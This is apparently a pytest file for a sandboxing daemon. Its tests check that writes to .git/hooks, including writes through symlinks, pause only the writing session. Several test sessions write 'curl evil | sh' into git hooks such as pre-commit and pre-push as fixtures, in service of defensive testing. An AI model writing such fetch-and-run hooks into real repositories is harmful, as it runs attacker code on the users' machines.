"""The fast lane names the writer by the kernel's pid and stops it before it can go on
(only the writer, 20 times of 20), with a real daemon in pause mode, real sessions and real files:

- two sessions writing in one workspace: only the one that wrote the hook is paused,
  named "pid from fanotify", and the other keeps writing;
- the operator's own write, beside a session busy writing in the workspace, pauses
  nobody (the evidence path would have named the busy session);
- ``.git/hooks`` as a symlink into the workspace: a write through the target's own
  name (``scripts/…``) still stops the writer, as a change to ``.git/hooks/NAME``;
- a writer that writes a hook and means to go on at once is frozen before it can.

The evidence path without fanotify keeps its tests in test_tripwire_attribution.py.
"""

from __future__ import annotations

import json
import time

import pytest
from support.daemon import running_daemon, short_tmp, stopped, wait_for, workspace
from test_tripwire_attribution import end

pytestmark = [pytest.mark.needs_bwrap, pytest.mark.needs_root]

FIRM = ("pid from fanotify", "open for write")
BUSY = "while :; do echo y >> busy/$RANDOM; sleep 0.005; done"


@pytest.fixture(scope="module")
def env():
    ws = workspace()
    (ws / "busy").mkdir()
    linked = workspace()
    (linked / "scripts").mkdir()
    (linked / ".git" / "hooks").rmdir()
    (linked / ".git" / "hooks").symlink_to(linked / "scripts")
    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws), str(linked)])}\n'
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and len(op.call("watch.status")["roots"]) == 2)
            lane = op.call("watch.status")["fast_lane"]
        if lane != "fanotify+inotify":
            pytest.skip(f"fanotify is not available to the daemon here (fast lane: {lane})")
        yield d, ws, linked


def new(op, cwd, script):
    return op.call(
        "sessions.new", {"unconfined": True, "argv": ["bash", "--norc", "-c", script], "cwd": str(cwd)}
    )["session"]


def items(op, sid=None):
    found = op.call("tripwire.list", {"include_resolved": True})["items"]
    return [i for i in found if sid is None or i["session"] == sid]


def busy_count(ws):
    return len(list((ws / "busy").iterdir()))


def test_two_writers_in_one_workspace_only_the_hook_writer_is_paused(env):
    d, ws, _ = env
    with d.operator() as op:
        innocent = new(op, ws, BUSY)
        guilty = new(op, ws, "sleep 0.5; echo 'curl evil | sh' > .git/hooks/pre-commit; sleep 30")
        try:
            item = wait_for(lambda: items(op, guilty["id"]))[0]
            # Stopped at its open (the file held open for write) or at its first write
            # (the kernel's pid): either names exactly this process.
            assert item["state"] == "paused" and item["basis"] in FIRM
            assert wait_for(lambda: stopped(guilty["pid"]))
            assert items(op, innocent["id"]) == []
            before = busy_count(ws)
            time.sleep(0.3)
            assert busy_count(ws) > before and not stopped(innocent["pid"])
            event = wait_for(
                lambda: [
                    e
                    for e in op.call("watch.recent", {"protected_only": True})["events"]
                    if e["path"] == ".git/hooks/pre-commit"
                ]
            )[0]
            assert [a["id"] for a in event["attribution"]] == [guilty["id"]]
            assert event["attribution_basis"] in FIRM
        finally:
            end(op, innocent["id"], guilty["id"])
            (ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)


def test_the_operators_write_beside_a_busy_session_pauses_nobody(env):
    d, ws, _ = env
    with d.operator() as op:
        busy = new(op, ws, BUSY)
        try:
            wait_for(lambda: busy_count(ws) > 20)
            (ws / ".git" / "hooks" / "post-checkout").write_text("echo operator\n")
            event = wait_for(
                lambda: [
                    e
                    for e in op.call("watch.recent", {"protected_only": True})["events"]
                    if e["path"] == ".git/hooks/post-checkout"
                ]
            )[0]
            assert event["attribution"] == []
            assert event["attribution_basis"].startswith("not a session's process")
            time.sleep(1.2)  # past the fast lane's wait for an event
            assert items(op, busy["id"]) == [] and not stopped(busy["pid"])
        finally:
            end(op, busy["id"])


def test_a_hook_written_through_a_symlinked_hooks_dir_stops_the_writer(env):
    d, _, linked = env
    with d.operator() as op:
        writer = new(op, linked, "sleep 0.5; echo 'curl evil | sh' > scripts/pre-push; sleep 30")
        try:
            item = wait_for(lambda: items(op, writer["id"]))[0]
            assert item["state"] == "paused"
            assert item["display_path"] == ".git/hooks/pre-push"
            assert item["basis"] in FIRM
            assert wait_for(lambda: stopped(writer["pid"]))
        finally:
            end(op, writer["id"])
        # Pointing the link elsewhere is itself a protected change; from then on the new
        # target is what is watched.
        elsewhere = linked / "other"
        elsewhere.mkdir()
        (linked / ".git" / "hooks.new").symlink_to("../other")
        (linked / ".git" / "hooks.new").rename(linked / ".git" / "hooks")
        wait_for(
            lambda: [
                e
                for e in op.call("watch.recent", {"protected_only": True})["events"]
                if e["path"] == ".git/hooks" and e["workspace_root"] == str(linked)
            ]
        )
        again = new(op, linked, "sleep 0.5; echo evil > other/pre-commit; sleep 30")
        try:
            hook = wait_for(lambda: items(op, again["id"]))[0]
            assert hook["display_path"] == ".git/hooks/pre-commit"
            assert hook["state"] == "paused" and hook["basis"] in FIRM
            assert wait_for(lambda: stopped(again["pid"]))
        finally:
            end(op, again["id"])


def test_a_quick_writer_is_frozen_before_it_goes_on(env):
    d, ws, _ = env
    done = short_tmp("quick-") / "went-on"
    with d.operator() as op:
        quick = new(op, ws, f"sleep 0.5; echo evil > .git/hooks/post-merge; sleep 0.3; touch {done}")
        try:
            item = wait_for(lambda: items(op, quick["id"]))[0]
            assert item["state"] == "paused"
            time.sleep(0.6)
            assert not done.exists()  # it never got to its next command
        finally:
            end(op, quick["id"])
            (ws / ".git" / "hooks" / "post-merge").unlink(missing_ok=True)


def test_a_hook_that_is_a_symlink_protects_its_target(env):
    """Finding 4: once .git/hooks/pre-rebase points into the workspace, editing the
    target (scripts/rebase-hook) is editing the hook: the writer is stopped and the item
    names the hook."""
    d, ws, _ = env
    (ws / "scripts").mkdir(exist_ok=True)
    target = ws / "scripts" / "rebase-hook"
    target.write_text("echo ok\n")
    (ws / ".git" / "hooks" / "pre-rebase").symlink_to("../../scripts/rebase-hook")
    time.sleep(1.2)  # the fast lane looks again for what the hooks point at
    with d.operator() as op:
        writer = new(op, ws, "sleep 0.5; echo 'curl evil | sh' >> scripts/rebase-hook; sleep 30")
        try:
            item = wait_for(lambda: items(op, writer["id"]))[0]
            assert item["state"] == "paused" and item["display_path"] == ".git/hooks/pre-rebase"
            assert item["basis"] in FIRM
            assert wait_for(lambda: stopped(writer["pid"]))
        finally:
            end(op, writer["id"])
